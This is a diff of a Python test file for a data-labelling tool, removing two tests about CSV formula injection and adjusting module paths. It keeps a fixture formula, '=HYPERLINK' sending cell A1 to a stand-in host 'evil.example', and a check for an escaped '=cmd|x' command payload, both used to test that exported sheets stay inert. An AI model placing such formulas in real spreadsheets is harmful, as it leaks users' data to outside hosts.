@@ -13,21 +13,16 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from components.label_issues import Judged, write_label_issues
-from data.importers.importing import import_photos
 from data.importers.tables import import_table
 from data.spans.corrections import read_corrections
 from data.spans.layout import find_spans
 from data.spans.served import read_served
 from edgeline.cli import predict
-from edgeline.cli.main import main
 from edgeline.prediction.inputs import Input
 from edgeline.runtime import Answer
 from edgeline.tables.sheets import mark_cell, read_rows, unmark_cell, write_rows
 from pipeline.workloads import find_workload, with_features
-from runners.suggest import listing
-from runners.suggest.examples import Candidate, Pool
-from runners.suggest.suggestions import Suggestions
-from tests.data.sample_photos import jpeg
+from runners.cli.main import main
 
 ROOT = Path(__file__).parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
@@ -38,8 +33,8 @@ OF_DATA = {
     "data/photos/labels_file.py",
     "data/reviews/generator.py",
     "edgeline/tables/typed_rows.py",
-    "runners/drill/fleet.py",
-    "runners/drill/photos.py",
+    "drill/fleet.py",
+    "drill/photos.py",
 }
 
 
@@ -81,7 +76,7 @@ def test_any_cells_come_back_from_a_sheet_and_none_is_a_formula(tmp_path_factory
 
 def test_only_tables_of_data_are_written_beside_the_writer_of_sheets():
     writers = set()
-    for room in ("edgeline", "components", "data", "pipeline", "runners", "trainer_module"):
+    for room in ("edgeline", "components", "data", "drill", "pipeline", "runners", "trainer_module"):
         for path in (ROOT / room).rglob("*.py"):
             for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                 if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv"):
@@ -126,39 +121,6 @@ def test_answers_run_nothing(capsys):
     assert predict._print_csv(answers, bundle) == 1
     out = capsys.readouterr().out
     assert list_formulas(out) == [] and "'=cmd|x" in out and "\r" not in out
-
-
-def test_suggestions_run_nothing_and_are_imported_with_the_texts_that_the_source_had(tmp_path):
-    texts = [f"{FORMULA} {number}" for number in range(12)] + ["'=quoted", "-1.5", "'tis"]
-    scores = {"int8": np.array([[0.4, 0.6]], np.float32)}
-    answer = Answer(np.zeros((1, 1)), scores, ("dark", "bright"))
-    candidates = [
-        Candidate(f"a.csv:{number}", {"body": text, "=x": "1"}, answer, text, str(number), None)
-        for number, text in enumerate(texts)
-    ]
-    workload = SimpleNamespace(
-        name="t", label_column="label", noun="text", nouns="texts", labels=("dark", "bright")
-    )
-    pool = Pool(candidates=candidates)
-    suggested = Suggestions(candidates, [], pool, False, 0, None, "", workload, 1, "int8")
-    path = listing.write(suggested, tmp_path / "out")
-
-    assert list_formulas(path.read_text("utf-8")) == []
-    filled = [{**row, "label": ("dark", "bright")[at % 2]} for at, row in enumerate(read_rows(path))]
-    with path.open("w", newline="", encoding="utf-8") as file:
-        write_rows(file, [filled[0], *(row.values() for row in filled)])
-    import_table(path, tmp_path / "data", "label", text="body")
-    (span,) = find_spans(tmp_path / "data")
-    with (span.path / "texts.csv").open(newline="", encoding="utf-8") as file:
-        assert [row["text"] for row in csv.DictReader(file)] == texts
-
-
-def test_a_list_of_suggested_photos_finds_the_photo_whose_name_begins_like_a_formula(tmp_path):
-    (tmp_path / "=1.jpg").write_bytes(jpeg())
-    header = ("photo", "label", "place", "said", "score", "margin", "version", "variant", "chosen")
-    with (tmp_path / "suggestions.csv").open("w", newline="", encoding="utf-8") as file:
-        write_rows(file, [header, ("=1.jpg", "ok", "=1.jpg", "ok", 0.5, 0.1, 1, "int8", "useful")])
-    assert dict(import_photos(tmp_path / "suggestions.csv", tmp_path / "data").added) == {"ok": 1}
 
 
 def test_an_export_of_a_phone_that_marks_formulas_is_imported_without_the_marks(tmp_path):
